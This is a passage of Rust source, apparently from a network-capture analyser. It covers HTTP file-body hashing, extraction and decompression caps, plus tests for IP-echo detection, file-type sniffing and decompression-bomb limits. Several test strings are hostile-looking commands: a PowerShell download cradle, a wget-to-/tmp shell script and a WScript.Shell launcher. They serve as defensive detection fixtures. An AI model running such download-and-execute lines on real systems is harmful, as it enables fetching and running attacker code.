    pub fn gap(&mut self, len: u64) {
        self.missing_bytes += len;
        if self.cut.is_none() {
            self.cut = Some("gap");
        }
    }

    /// The body ended (`complete`: its framing said so; else the capture or the connection ended
    /// first). Writes the `files` row.
    pub fn finish(mut self, complete: bool, ctx: &ConnCtx, swap: bool, out: &mut dyn RecordSink) {
        // flush the decoder: a truncated stream is a decode error only when the body was whole
        let (sink, ok) = match std::mem::replace(&mut self.dec, Decoder::Taken) {
            Decoder::Live(l) => l.finish(),
            Decoder::Broken(s) => (s, true),
            Decoder::Taken => return,
        };
        if !complete && self.cut.is_none() {
            self.cut = Some("end_of_capture");
        }
        if !ok && self.cut.is_none() {
            self.cut = Some(if sink.capped {
                "decode_cap"
            } else {
                "decode_error"
            });
        }
        if let Some(c) = self.cut
            && c == "decode_cap"
        {
            out.weird(
                self.meta.ts,
                Some(&ctx.uid),
                "http_decompression_cap",
                &format!(
                    "{} body {} decoded past {} bytes from {} sent; decoding stopped",
                    if self.meta.is_orig {
                        "request"
                    } else {
                        "response"
                    },
                    self.fuid,
                    sink.seen,
                    self.wire_bytes
                ),
                None,
            );
        }
        self.emit(sink, ctx, swap, out);
    }

    fn emit(self, mut sink: Sink, ctx: &ConnCtx, swap: bool, out: &mut dyn RecordSink) {
        let whole = self.cut.is_none();
        let names = sink
            .zip
            .as_ref()
            .map(|z| z.names.clone())
            .unwrap_or_default();
        let vba = sink.ole_vba.as_ref().is_some_and(|(f, _)| *f);
        let sn = sniff(&sink.prefix, &names, vba);
        // an IP-echo answer: a whole short text, from the server, naming an address not its own (a
        // script or page that names its server - a dropper's download URL - is no echo)
        let server = if swap { ctx.orig_h } else { ctx.resp_h };
        let echo = if whole
            && !self.meta.is_orig
            && sink.seen as usize == sink.prefix.len()
            && matches!(sn.class, "text" | "html")
        {
            text_address(&sink.prefix).filter(|a| *a != server)
        } else {
            None
        };
        let entropy = sink.entropy();
        let encoding = sink.text_encoding();
        let (md5, sha1, sha256) = (
            hex(&std::mem::take(&mut sink.md5).finalize()),
            hex(&std::mem::take(&mut sink.sha1).finalize()),
            hex(&std::mem::take(&mut sink.sha256).finalize()),
        );
        let extracted = sink
            .extract
            .take()
            .and_then(|x| x.close(&self.fuid, whole.then_some(sha256.as_str())));
        let ((oh, op), (rh, rp)) = if swap {
            ((ctx.resp_h, ctx.resp_p), (ctx.orig_h, ctx.orig_p))
        } else {
            ((ctx.orig_h, ctx.orig_p), (ctx.resp_h, ctx.resp_p))
        };
        out.record(Record::File(FileRecord {
            ts: self.meta.ts,
            uid: &ctx.uid,
            fuid: &self.fuid,
            orig_h: oh,
            orig_p: op,
            resp_h: rh,
            resp_p: rp,
            trans_depth: self.meta.depth,
            is_orig: self.meta.is_orig,
            declared_type: self.meta.declared_type.as_deref(),
            mime_type: sn.mime.as_deref(),
            file_class: sn.class,
            filename: self.meta.filename.as_deref(),
            content_encoding: self.meta.content_encoding.as_deref(),
            decoded: self.decoded,
            seen_bytes: sink.seen,
            wire_bytes: self.wire_bytes,
            total_bytes: self.meta.total_bytes,
            missing_bytes: self.missing_bytes,
            complete: whole,
            cut_reason: self.cut,
            md5: whole.then_some(md5.as_str()),
            sha1: whole.then_some(sha1.as_str()),
            sha256: whole.then_some(sha256.as_str()),
            entropy,
            archive_entries: &names,
            text_address: echo,
            text_encoding: encoding,
            extracted: extracted.as_deref(),
            source: &ctx.source,
            community_id: &ctx.community_id,
        }));
    }
}

fn open_extract(x: &Arc<Extract>, fuid: &str) -> Option<ExtractFile> {
    let slot = Slot::take(&OPEN_EXTRACTS, MAX_OPEN_EXTRACTS)?;
    let tmp = x.dir.join(format!(".part-{fuid}"));
    let mut o = std::fs::OpenOptions::new();
    o.write(true).create(true).truncate(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        // what a capture carried is never made executable
        o.mode(0o600);
    }
    let file = o.open(&tmp).ok()?;
    Some(ExtractFile {
        tmp,
        dir: x.dir.clone(),
        file: std::io::BufWriter::new(file),
        left: x.max_bytes,
        truncated: false,
        failed: false,
        _slot: slot,
    })
}

impl ExtractFile {
    /// Close and name the file: `FUID-SHA256` when whole and within the cap, else `FUID-partial`.
    /// Returns the name (relative to the extraction directory).
    fn close(mut self, fuid: &str, sha256: Option<&str>) -> Option<String> {
        if self.failed || self.file.flush().is_err() {
            let _ = std::fs::remove_file(&self.tmp);
            return None;
        }
        let name = match sha256 {
            Some(h) if !self.truncated => format!("{fuid}-{h}"),
            _ => format!("{fuid}-partial"),
        };
        match std::fs::rename(&self.tmp, self.dir.join(&name)) {
            Ok(()) => Some(name),
            Err(_) => {
                let _ = std::fs::remove_file(&self.tmp);
                None
            }
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn each_marker_has_its_own_searcher() {
        use super::{FINDERS, Marker};
        assert_eq!(FINDERS.len(), Marker::ALL.len());
        for (i, m) in Marker::ALL.into_iter().enumerate() {
            assert_eq!(m as usize, i);
            let f = FINDERS.get(i).unwrap();
            assert_eq!(f.needle(), m.text().as_bytes());
        }
    }

    #[test]
    fn text_address_reads_ip_echo_answers_only() {
        let a = |s: &str| text_address(s.as_bytes()).map(|a| a.to_string());
        // what IP-echo services answer: bare, labelled, in a bare page, in JSON
        assert_eq!(a("203.0.113.9"), Some("203.0.113.9".into()));
        assert_eq!(a("198.51.100.7\n"), Some("198.51.100.7".into()));
        assert_eq!(
            a(
                "<html><head><title>Current IP Check</title></head><body>Current IP Address: 203.0.113.9</body></html>\r\n"
            ),
            Some("203.0.113.9".into())
        );
        assert_eq!(a("{\"ip\":\"2001:db8::5\"}"), Some("2001:db8::5".into()));
        assert_eq!(a("Your IP is 192.0.2.1."), Some("192.0.2.1".into()));
        // the same address twice is still one answer
        assert_eq!(a("ip=192.0.2.1 (192.0.2.1)"), Some("192.0.2.1".into()));
        // not an echo: two addresses, none, a version number, a time, `::`, binary, too long
        assert_eq!(a("192.0.2.1 192.0.2.2"), None);
        assert_eq!(a("false\n"), None);
        assert_eq!(a("Microsoft Connect Test"), None);
        assert_eq!(a("version 1.2.3 at 12:30:45"), None);
        assert_eq!(a("a :: b"), None);
        assert_eq!(text_address(b"\x00\x01192.0.2.1"), None);
        assert_eq!(a(&format!("192.0.2.1 {}", "x".repeat(ECHO_MAX))), None);
        assert_eq!(text_address(b""), None);
        // an address inside a tag is markup, not the answer
        assert_eq!(a("<a href=\"http://192.0.2.1/\">home</a>"), None);
        // a script or text naming a URL's host is a link, not an answer
        assert_eq!(
            a("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
            None
        );
        assert_eq!(a("ftp://user@192.0.2.1"), None);
        assert_eq!(a("ĂĂ http://192.0.2.1"), None);
        assert_eq!(a("Ăddress: 192.0.2.1"), Some("192.0.2.1".into()));
    }

    use super::*;

    #[test]
    fn filenames_from_disposition_then_uri() {
        assert_eq!(
            body_filename(Some(b"attachment; filename=\"inv oice.exe\""), Some("/x")),
            Some("inv oice.exe".into())
        );
        assert_eq!(
            body_filename(
                Some(b"attachment; filename=\"a.txt\"; filename*=UTF-8''r%C3%A9sum%C3%A9.doc"),
                None
            ),
            Some("résumé.doc".into())
        );
        assert_eq!(
            body_filename(None, Some("/dl/setup%20x.exe?id=1")),
            Some("setup x.exe".into())
        );
        assert_eq!(body_filename(None, Some("/dir/")), None);
        assert_eq!(
            body_filename(None, Some("http://h.example/a/b.js")),
            Some("b.js".into())
        );
        // control bytes from the wire are escaped, path separators are just text
        assert_eq!(
            body_filename(Some(b"inline; filename=\"..\\\\x\x1b.exe\""), None),
            Some("..\\\\\\\\x\\x1b.exe".into())
        );
    }

    /// The byte-level trim equals `str::trim_start` on the lossy text the sniffer used to build:
    /// ASCII and Unicode white space (NBSP, U+3000) trimmed, invalid or truncated UTF-8 ends it.
    #[test]
    fn trimming_bytes_matches_trim_start_on_lossy_text() {
        let pieces: &[&[u8]] = &[
            b" ",
            b"\t",
            b"\n",
            b"\r",
            b"\x0b",
            b"\x0c",
            "\u{a0}".as_bytes(),
            "\u{3000}".as_bytes(),
            "\u{2028}".as_bytes(),
            b"\xff",
            b"\x80",
            b"\xe3\x80",
            b"\xc2",
            b"@echo off",
            b"<svg",
            b"{",
            "\u{e9}".as_bytes(),
            b"x",
        ];
        // every sequence of up to three pieces
        let mut inputs: Vec<Vec<u8>> = vec![Vec::new()];
        for _ in 0..3 {
            let mut next = Vec::new();
            for i in &inputs {
                for p in pieces {
                    next.push([i.as_slice(), p].concat());
                }
            }
            inputs.extend(next);
        }
        for b in &inputs {
            assert_eq!(
                String::from_utf8_lossy(trim_start_whitespace(b)),
                String::from_utf8_lossy(b).trim_start(),
                "{b:?}"
            );
        }
    }

    #[test]
    fn sniffing_classes() {
        assert_eq!(
            sniff(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", &[], false).class,
            "executable"
        );
        let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
        elf.resize(64, 0);
        assert_eq!(sniff(&elf, &[], false).class, "executable");
        assert_eq!(
            sniff(b"#!/bin/sh\ncd /tmp; wget http://x/y", &[], false).class,
            "script"
        );
        let ps = sniff(
            b"$c=New-Object Net.WebClient;IEX $c.DownloadString('http://x')",
            &[],
            false,
        );
        assert_eq!(
            (ps.class, ps.mime.as_deref()),
            ("script", Some("text/x-powershell"))
        );
        assert_eq!(
            sniff(b"<html><body>hi</body></html>", &[], false).class,
            "html"
        );
        assert_eq!(
            sniff(
                b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd');",
                &[],
                false
            )
            .class,
            "script"
        );
        assert_eq!(
            sniff(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &[], false).class,
            "media"
        );
        assert_eq!(
            sniff(&[0x8f, 0x01, 0x00, 0xfe, 0x12, 0x00, 0x07], &[], false).class,
            "unknown"
        );
        let names = vec![
            "[Content_Types].xml".to_string(),
            "word/vbaProject.bin".to_string(),
        ];
        assert_eq!(
            sniff(b"PK\x03\x04\x14\0\0\0", &names, false).class,
            "office_macro"
        );
        let names = vec!["invoice.pdf.exe".to_string()];
        assert_eq!(
            sniff(b"PK\x03\x04\x14\0\0\0", &names, false).class,
            "archive_executable"
        );
        assert_eq!(sniff(b"", &[], false).class, "empty");
    }

    fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
        let mut z = Vec::new();
        for (name, data) in entries {
            z.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0");
            z.extend_from_slice(&[0; 4]); // crc
            z.extend_from_slice(&(data.len() as u32).to_le_bytes());
            z.extend_from_slice(&(data.len() as u32).to_le_bytes());
            z.extend_from_slice(&(name.len() as u16).to_le_bytes());
            z.extend_from_slice(&0u16.to_le_bytes());
            z.extend_from_slice(name.as_bytes());
            z.extend_from_slice(data);
        }
        z.extend_from_slice(b"PK\x01\x02");
        z
    }

    #[test]
    fn zip_walk_reads_names_across_any_split() {
        let big = vec![7u8; 20_000];
        let z = zip_of(&[
            ("a.txt", b"hello"),
            ("dir/big.bin", &big),
            ("run.exe", b"MZ"),
        ]);
        for step in [1usize, 3, 29, 30, 31, 4096, z.len()] {
            let mut w = ZipWalk::default();
            for c in z.chunks(step) {
                w.feed(c);
            }
            assert_eq!(
                w.names,
                vec!["a.txt", "dir/big.bin", "run.exe"],
                "step {step}"
            );
        }
    }

    fn ctx() -> ConnCtx {
        ConnCtx {
            uid: "Cabc".into(),
            orig_h: "10.0.0.1".parse().unwrap(),
            orig_p: 40000,
            resp_h: "192.0.2.1".parse().unwrap(),
            resp_p: 80,
            proto: 6,
            source: "t.pcap".into(),
            community_id: String::new(),
        }
    }

    /// The fields of a `files` record these tests check, owned.
    #[derive(Default)]
    struct Row {
        sha256: Option<String>,
        seen_bytes: u64,
        wire_bytes: u64,
        complete: bool,
        cut_reason: Option<String>,
        entropy: Option<f64>,
        decoded: Option<bool>,
        text_encoding: Option<&'static str>,
    }

    #[derive(Default)]
    struct Keep(Option<Row>);

    impl RecordSink for Keep {
        fn record(&mut self, r: Record<'_>) {
            if let Record::File(f) = r {
                self.0 = Some(Row {
                    sha256: f.sha256.map(str::to_string),
                    seen_bytes: f.seen_bytes,
                    wire_bytes: f.wire_bytes,
                    complete: f.complete,
                    cut_reason: f.cut_reason.map(str::to_string),
                    entropy: f.entropy,
                    decoded: f.decoded,
                    text_encoding: f.text_encoding,
                });
            }
        }
        fn weird(&mut self, _: i64, _: Option<&str>, _: &str, _: &str, _: Option<u64>) {}
    }

    fn one_row(meta: BodyMeta, chunks: &[&[u8]], complete: bool) -> Row {
        let mut t = Keep::default();
        let c = ctx();
        let mut f = FileBody::new(meta, &c, None);
        for ch in chunks {
            f.write(ch);
        }
        f.finish(complete, &c, false, &mut t);
        t.0.unwrap()
    }

    #[test]
    fn gzip_deflate_brotli_bodies_hash_their_decoded_bytes() {
        let body: Vec<u8> = (0..100_000u32).flat_map(|i| i.to_le_bytes()).collect();
        let want = hex(&sha2::Sha256::digest(&body));
        let gz = {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(&body).unwrap();
            e.finish().unwrap()
        };
        let zl = {
            let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(&body).unwrap();
            e.finish().unwrap()
        };
        let raw = {
            let mut e =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(&body).unwrap();
            e.finish().unwrap()
        };
        let br = {
            let mut out = Vec::new();
            {
                let mut e = brotli::CompressorWriter::new(&mut out, 4096, 5, 22);
                e.write_all(&body).unwrap();
            }
            out
        };
        for (enc, data) in [
            ("gzip", &gz),
            ("deflate", &zl),
            ("deflate", &raw),
            ("br", &br),
            ("", &body),
        ] {
            for step in [1usize, 7, 1460, data.len()] {
                let chunks: Vec<&[u8]> = data.chunks(step).collect();
                let meta = BodyMeta {
                    content_encoding: (!enc.is_empty()).then(|| enc.to_string()),
                    ..Default::default()
                };
                let b = one_row(meta, &chunks, true);
                assert_eq!(
                    b.sha256.as_deref(),
                    Some(want.as_str()),
                    "{enc} step {step}"
                );
                assert_eq!(b.seen_bytes, body.len() as u64);
                assert_eq!(b.wire_bytes, data.len() as u64);
                assert!(b.complete);
            }
        }
        // a cut gzip body: complete=false, no hashes, the bytes decoded so far counted
        let b = one_row(
            BodyMeta {
                content_encoding: Some("gzip".into()),
                ..Default::default()
            },
            &[&gz[..gz.len() / 2]],
            false,
        );
        assert!(!b.complete);
        assert_eq!(b.cut_reason.as_deref(), Some("end_of_capture"));
        assert_eq!(b.sha256, None);
        assert!(b.seen_bytes > 0);
        // garbage declared gzip: decode_error, not a panic
        let b = one_row(
            BodyMeta {
                content_encoding: Some("gzip".into()),
                ..Default::default()
            },
            &[b"this is not gzip at all"],
            true,
        );
        assert_eq!(b.cut_reason.as_deref(), Some("decode_error"));
    }

    fn gzip(b: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b).unwrap();
        e.finish().unwrap()
    }

    fn brotli(b: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        {
            let mut e = brotli::CompressorWriter::new(&mut out, 4096, 5, 22);
            e.write_all(b).unwrap();
        }
        out
    }

    fn deflate(b: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b).unwrap();
        e.finish().unwrap()
    }

    /// `Content-Encoding: gzip, br` names the encodings in the order they were applied: the bytes
    /// sent are br(gzip(body)), undone brotli first. Every order and depth up to MAX_LAYERS hashes
    /// the original body; an unknown coding or one layer too many leaves the bytes as sent.
    #[test]
    fn nested_encodings_are_undone_last_applied_first() {
        let body: Vec<u8> = (0..50_000u32)
            .flat_map(|i| (i % 251).to_le_bytes())
            .collect();
        let want = hex(&sha2::Sha256::digest(&body));
        let cases: Vec<(&str, Vec<u8>)> = vec![
            ("gzip, br", brotli(&gzip(&body))),
            ("br, gzip", gzip(&brotli(&body))),
            ("gzip,gzip", gzip(&gzip(&body))),
            ("deflate, identity, gzip", gzip(&deflate(&body))),
            ("x-gzip, deflate, br", brotli(&deflate(&gzip(&body)))),
        ];
        for (enc, data) in &cases {
            for step in [1usize, 999, data.len()] {
                let chunks: Vec<&[u8]> = data.chunks(step).collect();
                let b = one_row(
                    BodyMeta {
                        content_encoding: Some(enc.to_string()),
                        ..Default::default()
                    },
                    &chunks,
                    true,
                );
                assert_eq!(
                    b.sha256.as_deref(),
                    Some(want.as_str()),
                    "{enc} step {step}"
                );
                assert_eq!(b.seen_bytes, body.len() as u64, "{enc}");
                assert_eq!(b.decoded, Some(true), "{enc}");
                assert!(b.complete, "{enc}");
            }
        }
        // a coding wirehunt does not undo, or more layers than MAX_LAYERS: hashed as sent
        for (enc, data) in [
            ("gzip, compress", gzip(&body)),
            ("gzip, gzip, gzip, gzip", gzip(&gzip(&gzip(&gzip(&body))))),
        ] {
            let b = one_row(
                BodyMeta {
                    content_encoding: Some(enc.to_string()),
                    ..Default::default()
                },
                &[&data],
                true,
            );
            assert_eq!(b.decoded, Some(false), "{enc}");
            assert_eq!(b.seen_bytes, data.len() as u64, "{enc}");
            let sent = hex(&sha2::Sha256::digest(&data));
            assert_eq!(b.sha256.as_deref(), Some(sent.as_str()), "{enc}");
        }
        // the inner layer cut short: a decode error, not a panic, and no hash
        let cut = brotli(&gzip(&body)[..1000]);
        let b = one_row(
            BodyMeta {
                content_encoding: Some("gzip, br".into()),
                ..Default::default()
            },
            &[&cut],
            true,
        );
        assert_eq!(b.cut_reason.as_deref(), Some("decode_error"));
        assert_eq!(b.sha256, None);
    }

    /// A bomb inside a second layer stops at the same cap as one in the first.
    #[test]
    fn a_nested_bomb_stops_at_the_ratio_cap() {
        let zeros = vec![0u8; 8 << 20];
        let data = brotli(&gzip(&zeros));
        let b = one_row(
            BodyMeta {
                content_encoding: Some("gzip, br".into()),
                ..Default::default()
            },
            &[&data],
            true,
        );
        assert_eq!(b.cut_reason.as_deref(), Some("decode_cap"));
        assert!(
            b.seen_bytes <= (data.len() as u64 * DECODED_RATIO).max(1 << 20),
            "{}",
            b.seen_bytes
        );
    }

    #[test]
    fn a_decompression_bomb_stops_at_the_ratio_cap() {
        let zeros = vec![0u8; 8 << 20];
        let gz = {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            e.write_all(&zeros).unwrap();
            e.finish().unwrap()
        };
        // 8 MiB of zeros compress to ~8 KiB: past 1024x (and the 1 MiB floor) decoding stops
        let b = one_row(
            BodyMeta {
                content_encoding: Some("gzip".into()),
                ..Default::default()
            },
            &[&gz],
            true,
        );
        assert_eq!(b.cut_reason.as_deref(), Some("decode_cap"));
        let seen = b.seen_bytes;
        assert!(
            seen <= (gz.len() as u64 * DECODED_RATIO).max(1 << 20),
            "{seen}"
        );
    }

    #[test]
    fn text_encoding_tells_encoded_binary_from_text() {
        let enc = |body: &[u8]| one_row(BodyMeta::default(), &[body], true).text_encoding;
        let bin: Vec<u8> = (0..3000u32)
            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
            .collect();
        let hex: String = bin.iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!(enc(hex.as_bytes()), Some("hex"));
        let b64 = {
            use base64::Engine;
            base64::engine::general_purpose::STANDARD.encode(&bin)
        };
        assert_eq!(enc(b64.as_bytes()), Some("base64"));
        // MIME-wrapped base64 is still base64
        let wrapped: Vec<u8> = b64
            .as_bytes()
            .chunks(76)
            .flat_map(|l| l.iter().copied().chain(*b"\r\n"))
            .collect();
        assert_eq!(enc(&wrapped), Some("base64"));
        // text, markup, a number, short tokens and binary are none of these
        let prose = "The quick brown fox jumps over the lazy dog. ".repeat(20);
        assert_eq!(enc(prose.as_bytes()), None);
        assert_eq!(enc("<html><body>".repeat(40).as_bytes()), None);
        assert_eq!(enc("1234567890".repeat(40).as_bytes()), Some("hex"));
        assert_eq!(enc(b"deadbeef00"), None);
        assert_eq!(enc("abcdefabcdef".repeat(40).as_bytes()), None);
        assert_eq!(enc(&bin), None);
    }

    #[test]
    fn entropy_of_constant_and_uniform_bodies() {
        let b = one_row(BodyMeta::default(), &[&[b'a'; 1000]], true);
        assert_eq!(b.entropy, Some(0.0));
        let all: Vec<u8> = (0..=255u8).cycle().take(256 * 64).collect();
        let b = one_row(BodyMeta::default(), &[&all], true);
        assert_eq!(b.entropy, Some(8.0));
    }
}
